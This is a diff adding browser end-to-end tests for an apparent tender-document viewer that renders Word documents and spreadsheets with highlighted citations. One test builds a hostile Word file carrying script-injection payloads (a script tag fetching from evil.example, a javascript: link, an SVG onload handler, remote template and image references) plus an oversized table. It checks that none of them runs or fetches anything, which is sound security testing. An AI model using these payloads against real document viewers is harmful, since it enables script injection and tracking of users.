@@ -1,0 +1,139 @@
+import { faultsOf } from './support/faults.ts';
+import { makeDocx, makeXlsx, paragraph, picture } from './support/make-office.ts';
+import { expect, makeTender, test } from './support/test.ts';
+
+const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+
+const cell = (text: string) => `<w:tc>${paragraph(text)}</w:tc>`;
+const table = `<w:tbl><w:tr>${cell('Material')}${cell('Steel 316')}</w:tr></w:tbl>`;
+const newPage = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>';
+
+test('a Word document is shown as it looks, with the cited words marked, found and read as text', async ({
+  page,
+  signedIn,
+}) => {
+  const path = await makeTender(signedIn, 'As it looks');
+  await page.goto(path);
+  const filler = Array.from({ length: 60 }, (_, at) => paragraph(`Remark ${at + 1} of no importance.`)).join('');
+  const buffer = makeDocx(
+    `${paragraph('Terms of supply')}${filler}${newPage}${paragraph('The performance ', 'guarantee amounts to ', '10% of the contract price.')}${table}`,
+  );
+  await page.locator('input[type=file]').first().setInputFiles({ name: 'terms.docx', mimeType: docxType, buffer });
+  await page.getByLabel('Your question').fill('How much is the performance guarantee?');
+  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
+  await page.getByLabel('Your question').press('Enter');
+  await page
+    .getByRole('button', { name: /^Source 1/ })
+    .first()
+    .click();
+
+  const frame = page.frameLocator('iframe');
+  const marks = frame.locator('[data-highlight]');
+  await expect(marks).toHaveText(['The performance ', 'guarantee amounts to ', '10% of the contract price.']);
+  await expect(marks.first()).toBeInViewport();
+  await expect(frame.locator('table')).toContainText('Steel 316');
+  await marks.first().click();
+  await page.keyboard.press('Control+f');
+  await page.getByRole('textbox', { name: 'Find in this document' }).fill('remark 5');
+  await expect(page.getByText('1 of 11', { exact: true })).toBeVisible();
+  await page.keyboard.press('Enter');
+  await expect(page.getByText('2 of 11', { exact: true })).toBeVisible();
+  await expect(frame.getByText('Remark 50 of')).toBeInViewport();
+  await page.keyboard.press('Escape');
+  for (const width of [1440, 390]) {
+    await page.setViewportSize({ width, height: 900 });
+    await expect(frame.getByText('Terms of supply')).toBeAttached();
+    expect.soft(await faultsOf(page), `${width} px`).toEqual([]);
+  }
+  await page.getByRole('button', { name: 'Show as text' }).click();
+  await expect(page.locator('mark[data-highlight]')).toContainText('10% of the contract price');
+});
+
+test('a hostile Word document runs nothing, fetches nothing and does not stop the screen', async ({
+  page,
+  signedIn,
+}) => {
+  const path = await makeTender(signedIn, 'Hostile');
+  const outside: string[] = [];
+  page.on('request', (request) => {
+    if (/evil\.example/.test(request.url())) outside.push(request.url());
+  });
+  page.on('dialog', (dialog) => outside.push(dialog.message()));
+  const script = '<script>parent.pwned = 1; fetch("https://evil.example/script")</script>';
+  const hostile = makeDocx(
+    `${paragraph('Before')}<w:p><w:hyperlink r:id="js"><w:r><w:t>Follow me</w:t></w:r></w:hyperlink></w:p><w:p><w:hyperlink r:id="web"><w:r><w:t>To a page</w:t></w:r></w:hyperlink></w:p>${picture('remote')}${picture('svg')}<w:altChunk r:id="chunk"/>${paragraph('After')}`,
+    [
+      ['js', 'hyperlink', 'javascript:parent.pwned=1'],
+      ['web', 'hyperlink', 'https://evil.example/page'],
+      ['remote', 'image', 'https://evil.example/pixel.png'],
+      ['svg', 'image', 'media/image1.svg'],
+      ['chunk', 'aFChunk', 'chunk.html'],
+      ['template', 'attachedTemplate', 'https://evil.example/macro.dotm'],
+    ],
+    {
+      'word/media/image1.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1">${script}<image href="https://evil.example/svg.png"/></svg>`,
+      'word/chunk.html': `<html><body>${script}</body></html>`,
+    },
+  );
+  const huge = makeDocx(
+    `<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(60)}</w:tr>`.repeat(4000)}</w:tbl>${paragraph('End of it')}`,
+  );
+  await page.goto(path);
+  await page
+    .locator('input[type=file]')
+    .first()
+    .setInputFiles([
+      { name: 'hostile.docx', mimeType: docxType, buffer: hostile },
+      { name: 'huge.docx', mimeType: docxType, buffer: huge },
+    ]);
+  const list = page.getByRole('list', { name: 'Documents of this tender' });
+  await expect(list.getByText('Ready')).toHaveCount(2, { timeout: 60_000 });
+
+  await list.getByText('hostile.docx').click();
+  const frame = page.frameLocator('iframe');
+  await expect(frame.getByText('After')).toBeVisible();
+  await expect(frame.locator('script, iframe, object, [href], [onload]')).toHaveCount(0);
+  await frame.getByText('Follow me').click();
+  await frame.getByText('To a page').click();
+  await expect(page.getByRole('alertdialog')).toContainText('https://evil.example/page');
+  await page.keyboard.press('Escape');
+
+  await list.getByText('huge.docx').click();
+  await expect(page.getByText('This file is too large to be shown as it looks.', { exact: false })).toBeVisible();
+  await expect(page.locator('[data-page]')).toContainText('End of it');
+  expect(outside).toEqual([]);
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+});
+
+test('a workbook is shown as sheets, of which what is near is in the page', async ({ page, signedIn }) => {
+  const path = await makeTender(signedIn, 'Sheets');
+  await page.goto(path);
+  const rows = Array.from({ length: 5000 }, (_, at) => [`P-${at + 1}`, 'Centrifugal pump', `Station ${at % 7}`]);
+  const buffer = makeXlsx({
+    Summary: [
+      ['Item', 'Value'],
+      ['Bid security', 'EUR 48,500'],
+    ],
+    Pumps: [['Tag', 'Description', 'Place'], ...rows],
+  });
+  await page.locator('input[type=file]').first().setInputFiles({ name: 'prices.xlsx', mimeType: xlsxType, buffer });
+  await expect(page.getByRole('list', { name: 'Documents of this tender' })).toContainText('Ready');
+  await page.getByLabel('Your question').fill('How much is the bid security?');
+  await page.getByLabel('Your question').press('Enter');
+  await page
+    .getByRole('button', { name: /^Source 1/ })
+    .first()
+    .click();
+  await expect(page.locator('[data-cell][data-highlight]').last()).toContainText('EUR 48,500');
+  expect.soft(await faultsOf(page)).toEqual([]);
+
+  await page.getByRole('tab', { name: 'Pumps' }).click();
+  await expect(page.getByRole('columnheader', { name: 'C', exact: true })).toBeVisible();
+  expect(await page.locator('[data-cell]').count()).toBeLessThan(400);
+  await page.getByRole('button', { name: 'Find in this document' }).click();
+  await page.getByRole('textbox', { name: 'Find in this document' }).fill('P-4711');
+  await expect(page.locator('[data-cell="4712:0"]')).toBeInViewport();
+  await page.locator('[data-cell="4712:1"]').click();
+  await expect(page.getByText('B4712')).toBeVisible();
+});
